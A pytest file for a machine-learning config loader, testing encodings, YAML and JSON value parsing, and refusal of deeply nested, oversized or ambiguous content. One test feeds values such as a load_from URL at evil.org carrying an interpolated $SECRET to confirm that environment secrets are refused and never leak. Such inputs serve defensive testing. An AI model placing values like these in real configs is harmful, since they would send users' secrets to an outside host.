"""Values, sizes and encodings of config files: one reading, or one line that says what to write."""

from __future__ import annotations

import codecs
import math
import os
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from effnet_dense.commands.program import message
from effnet_dense.engine.config import load_config
from effnet_dense.engine.plain_yaml import EXPONENT, BoundedLoader


def config(folder: Path, suffix: str, content: str | bytes) -> Any:
    """Load a config of this content."""
    path = folder / f'leaf.{suffix}'
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return load_config(path)


def refusal(folder: Path, suffix: str, content: str | bytes) -> str:
    """The one line with which a config is refused, in a bounded time."""
    start = time.process_time()
    with pytest.raises(ValueError, match=rf'leaf\.{suffix} is not a config') as raised:
        config(folder, suffix, content)
    text = message(raised.value)
    assert '\n' not in text and len(text) < 600, text
    assert time.process_time() - start < 10
    return text


FORMS = {'py': "a = 'é'\n", 'json': '{"a": "é"}', 'yaml': 'a: é\n'}


@pytest.mark.parametrize('suffix', FORMS)
def test_encodings(suffix: str, tmp_path: Path) -> None:
    text = FORMS[suffix]
    assert config(tmp_path, suffix, codecs.BOM_UTF8 + text.encode()).a == 'é'
    (tmp_path / 'outer.py').write_text(f"_base_ = 'leaf.{suffix}'", encoding='utf-8')
    assert load_config(tmp_path / 'outer.py').a == 'é'
    for encoding, words in {
        'utf-16': 'encoded in UTF-16: save it as UTF-8',
        'utf-32': 'encoded in UTF-32: save it as UTF-8',
        'utf-16-be': 'UTF-8',
        'latin-1': 'not encoded in UTF-8 (byte 0xe9 at position',
    }.items():
        assert words in refusal(tmp_path, suffix, text.encode(encoding))


def test_a_lazy_config_with_a_byte_order_mark(tmp_path: Path) -> None:
    content = 'from mmengine.config import read_base\nwith read_base():\n    from .base import *\n'
    (tmp_path / '__init__.py').touch()
    (tmp_path / 'base.py').write_bytes(codecs.BOM_UTF8 + b'a = 1\n')
    assert config(tmp_path, 'py', codecs.BOM_UTF8 + content.encode()).a == 1


@pytest.mark.parametrize(
    ('text', 'value'),
    [
        ('1e-3', 1e-3),
        ('-2E5', -2e5),
        ('1.e+2', 100.0),
        ('.5e1', 5.0),
        ('1.5e3', 1500.0),
        ('1e-3s', '1e-3s'),
        ('e5', 'e5'),
        ("'1e-3'", '1e-3'),
        ('0', 0),
        ('0.5', 0.5),
        ('-0.25', -0.25),
        ('0x1f', 31),
        ('.inf', math.inf),
        ('"2020-01-01"', '2020-01-01'),
        ('yes', True),
        ('null', None),
        ('http://host:80/x', 'http://host:80/x'),
    ],
)
def test_values_of_yaml(text: str, value: Any, tmp_path: Path) -> None:
    found = config(tmp_path, 'yaml', f'a: {text}\n').a
    assert found == value and type(found) is type(value)


@pytest.mark.parametrize(
    ('suffix', 'content', 'words'),
    [
        ('yaml', 'a: 2020-01-01', 'line 1, column 4 is a date'),
        ('yaml', 'b: 1\na: 2020-01-01 10:00:00', 'line 2, column 4 is a date'),
        ('yaml', '2020-01-01: 1', 'is a date'),
        ('yaml', 'a: !!set {x, y}', 'is a set'),
        ('yaml', 'a: !!omap [x: 1]', 'is an ordered mapping'),
        ('yaml', 'a: !!pairs [x: 1]', 'is a list of pairs'),
        ('yaml', 'a: !!binary aGVsbG8=', 'is bytes'),
        ('yaml', 'a: {b: [1, .nan]}', 'a.b.1 is NaN'),
        ('yaml', 'a: 1:30', '1:30, is read differently'),
        ('yaml', 'a: 1:30.5', '1:30.5, is read differently'),
        ('yaml', 'a: 010', '010, is read differently'),
        ('yaml', 'a: 1e999', 'too large'),
        ('yaml', f'a: {"9" * 100}', 'a is a number of 333 bits'),
        ('yaml', f'a: {"9" * 10_000}', 'digits'),
        ('yaml', f'a: 0x{"f" * 10_000}', 'a is a number of 40000 bits'),
        ('json', '{"a": NaN}', 'a is NaN'),
        ('json', '{"a": {"b": [-1e999]}}', 'too large'),
        ('json', f'{{"a": [{"9" * 100}]}}', 'a.0 is a number of 333 bits'),
    ],
)
def test_values_that_are_no_data(suffix: str, content: str, words: str, tmp_path: Path) -> None:
    assert words in refusal(tmp_path, suffix, content)


@pytest.mark.parametrize(
    ('suffix', 'content'),
    [
        ('yaml', 'a: ' + '[' * 2000 + ']' * 2000),
        ('yaml', 'a: ' + '[' * 100_000),
        ('yaml', 'a: ' + '{b: ' * 300 + '1' + '}' * 300),
        ('yaml', ''.join(f'{" " * depth}a:\n' for depth in range(1000))),
        ('json', '{"a": ' + '[' * 100_000 + ']' * 100_000 + '}'),
        ('json', '{"a": ' + '[' * 500 + ']' * 500 + '}'),
    ],
)
def test_nested_content(suffix: str, content: str, tmp_path: Path) -> None:
    assert 'nested too deeply' in refusal(tmp_path, suffix, content)


@pytest.mark.parametrize('suffix', ['py', 'yaml', 'json'])
def test_large_files(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f'leaf.{suffix}'
    path.touch()
    os.truncate(path, 50_000_000)
    for name in (path, tmp_path / 'outer.py'):
        (tmp_path / 'outer.py').write_text(f"_base_ = 'leaf.{suffix}'", encoding='utf-8')
        with pytest.raises(ValueError, match=r'it has 50000000 bytes; a config \.\w+ may have \d+'):
            load_config(name)


@pytest.mark.parametrize(
    ('suffix', 'content'),
    [
        ('yaml', 'load_from: https://evil.org/{{$SECRET:x}}\n'),
        ('yaml', 'load_from: "{{ \'$SECRET:x\' }}"\n'),
        ('json', '{"load_from": "https://evil.org/{{$SECRET:x}}"}'),
        ('yaml', 'a: {{$SECRET:}}\n'),
    ],
)
def test_data_reads_no_environment(
    suffix: str, content: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv('SECRET', 'password')
    text = refusal(tmp_path, suffix, content)
    assert '$SECRET of the environment is not allowed' in text and 'password' not in text
    (tmp_path / 'outer.py').write_text(f"_base_ = 'leaf.{suffix}'", encoding='utf-8')
    with pytest.raises(ValueError, match='not allowed'):
        load_config(tmp_path / 'outer.py')


@pytest.mark.parametrize('text', ['a: |\n  # {{$SECRET:x}}\n', 'a: 1 # {\n#{{$SECRET:x}}\n'])
def test_what_looks_like_a_comment(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv('SECRET', 'password')
    assert 'password' not in str(config(tmp_path, 'yaml', text))


PLAIN = st.none() | st.booleans() | st.integers(-(2**63), 2**63) | st.floats(allow_nan=False)
TEXTS = st.text(st.characters(min_codepoint=32, max_codepoint=126)) | st.from_regex(
    r'\A[-+0-9.:_oxe]{1,6}\Z'
)
VALUES = st.recursive(
    PLAIN | TEXTS.filter(lambda text: not EXPONENT.fullmatch(text)),
    lambda inside: st.lists(inside) | st.dictionaries(st.from_regex(r'\A[a-z]+\Z'), inside),
    max_leaves=12,
)


@settings(max_examples=50, deadline=None)
@given(VALUES)
def test_what_programs_write_is_read_unchanged(value: Any) -> None:
    text = yaml.safe_dump({'a': value})
    assert yaml.load(text, BoundedLoader)['a'] == value
